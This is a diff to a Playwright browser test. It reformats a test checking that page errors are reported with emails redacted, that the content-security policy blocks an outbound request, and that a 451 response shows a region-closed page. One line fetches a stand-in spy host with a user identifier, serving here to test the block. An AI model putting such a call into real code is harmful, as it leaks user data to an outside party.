@@ -32,19 +32,25 @@ test.describe('without a connection', () => {
   })
 })
 
-test('errors are reported, and a closed region replaces the site', async ({ page, sandbox, pageErrors }) => {
-  await open(page, '/')
-  await page.evaluate(() => {
-    setTimeout(() => {
-      throw new Error('no mail for ada@players.example')
+test(
+  'errors are reported, and a closed region replaces the site',
+  { tag: '@always' },
+  async ({ page, sandbox, pageErrors }) => {
+    await open(page, '/')
+    await page.evaluate(() => {
+      setTimeout(() => {
+        throw new Error('no mail for ada@players.example')
+      })
+      fetch('https://spy.example/collect?who=ada').catch(() => undefined)
     })
-    fetch('https://spy.example/collect?who=ada').catch(() => undefined)
-  })
-  await expect
-    .poll(async () => (await sandbox.errors()).map(({ kind, page: at, message }) => `${kind} ${at} ${message}`).sort())
-    .toEqual(['error MAIN Error: no mail for [email]', 'policy MAIN connect-src blocked https://spy.example/collect'])
-  await sandbox.fault({ method: 'GET', path: '/api/promotions', kind: 'status', status: 451 })
-  await page.goto('/promotions')
-  await expect(page.locator('main[data-page=REGION_CLOSED]')).toContainText('Not available in your region')
-  pageErrors.length = 0
-})
+    await expect
+      .poll(async () =>
+        (await sandbox.errors()).map(({ kind, page: at, message }) => `${kind} ${at} ${message}`).sort(),
+      )
+      .toEqual(['error MAIN Error: no mail for [email]', 'policy MAIN connect-src blocked https://spy.example/collect'])
+    await sandbox.fault({ method: 'GET', path: '/api/promotions', kind: 'status', status: 451 })
+    await page.goto('/promotions')
+    await expect(page.locator('main[data-page=REGION_CLOSED]')).toContainText('Not available in your region')
+    pageErrors.length = 0
+  },
+)
